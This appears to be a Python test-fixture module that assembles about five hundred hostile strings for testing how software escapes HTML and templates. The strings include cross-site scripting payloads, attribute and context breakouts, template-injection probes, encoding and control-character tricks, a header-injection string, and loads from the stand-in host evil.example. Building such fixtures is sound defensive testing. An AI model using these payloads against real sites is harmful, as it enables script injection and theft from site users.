"""Five hundred strings that want to be code: tags, attributes, schemes, templates, controls, encodings."""

from itertools import product

# %% stands for what is to be called.
_CALLS = r"""
alert(1)
alert`1`
window['al'+'ert'](1)
top.alert(document.domain)
import('//evil.example/x.js')
""".strip().splitlines()
_TAGS = r"""
<script>%%</script>
<ScRiPt>%%</sCrIpT>
<script src=//evil.example></script>
<img src=x onerror=%%>
<svg onload=%%>
<svg><script>%%</script></svg>
<svg><animate onbegin=%% attributeName=x>
<body onload=%%>
<iframe srcdoc='<script>%%</script>'>
<iframe src=javascript:%%>
<a href='javascript:%%'>x</a>
<form action=javascript:%%><button>x
<math href=javascript:%%>x
<input autofocus onfocus=%%>
<details open ontoggle=%%>
<video><source onerror=%%></video>
<object data='data:text/html,<script>%%</script>'>
<base href=//evil.example/>
<style>@import'//evil.example'
<link rel=stylesheet href=//evil.example>
<meta http-equiv=refresh content='0;//evil.example'>
<template><img src=x onerror=%%></template>
<noscript><p title='</noscript><img src=x onerror=%%>'>
<!--><img src=x onerror=%%>-->
<![CDATA[<img src=x onerror=%%>]]>
<textarea></textarea><img src=x onerror=%%>
""".strip().splitlines()
_AROUND = r"""
%%
">%%
'>%%
</title>%%
</textarea>%%
</script>%%
-->%%
</style>%%
</select>%%
</option></select>%%
</p></main>%%
&lt;%%&gt;
""".strip().splitlines()
_ATTRIBUTES = r"""
" onmouseover="%%
' onmouseover='%%
` onmouseover=`%%
x onmouseover=%% y
" autofocus onfocus="%%" x="
"/onfocus="%%
" style="background:url(javascript:%%)
" formaction="javascript:%%
" srcdoc="<script>%%</script>
&quot; onfocus=&quot;%%
&#34; onfocus=&#34;%%
\" onfocus="%%
%22 onfocus=%22%%
""".strip().splitlines()
_OTHERS = r"""
{{ 7 * 7 }}
{{ config }}
{% import 'os' %}
{{ ''.__class__.__mro__ }}
${7*7}
#{7*7}
%(n)s
%s
100 %
%
%%(x)d
{0}
{}
javascript:alert(1)
data:text/html,<script>alert(1)</script>
JaVaScRiPt:alert(1)
vbscript:x
//evil.example
\u003cscript\u003ealert(1)
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<script>alert(1)</script>
<script/x>alert(1)</script/x>
<<script>alert(1)//<</script>
]]>
-->
<!--
*/
/*
'
`
&
<
>
=
/
&amp;lt;
&#x3c;script&#x3e;
&NewLine;
""".strip().splitlines()
_CONTROLS = (
    '\x00" onfocus="alert(1)', '\n" onfocus="alert(1)', "java\nscript:alert(1)", "\u2028alert(1)\u2029",
    "\u202e<gpj.tset>", "\ufeff<script>alert(1)</script>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</script>", "\x1b[31mred", "\x7f\x08\x08", "\r\nSet-Cookie: x=1", "\x00", '"', "\\",
    "\U0001f600" * 40, "a" * 5000, "<" * 500, "\u0301" * 200, "\ud7ff", "\xdf\u0345", " ", "\t\n",
)  # fmt: skip


def _all() -> tuple[str, ...]:
    tags = [
        around.replace("%%", tag.replace("%%", call)) for call, tag, around in product(_CALLS, _TAGS, _AROUND)
    ]
    picked = tags[:: len(tags) // 400]
    attributes = [each.replace("%%", call) for each, call in product(_ATTRIBUTES, _CALLS)]
    return tuple(dict.fromkeys([*picked, *attributes, *_OTHERS, *_CONTROLS]))


HOSTILE = _all()
A_HANDFUL = (
    *(
        f"{around}<img src=x onerror=alert(1)><script>alert(2)</script><svg onload=alert(3)>"
        for around in ("", '">', "</title>", "</textarea>", "'>")
    ),
    '" autofocus onfocus="alert(4)" x="',
    "javascript:alert(5)",
)
"""For a real browser."""
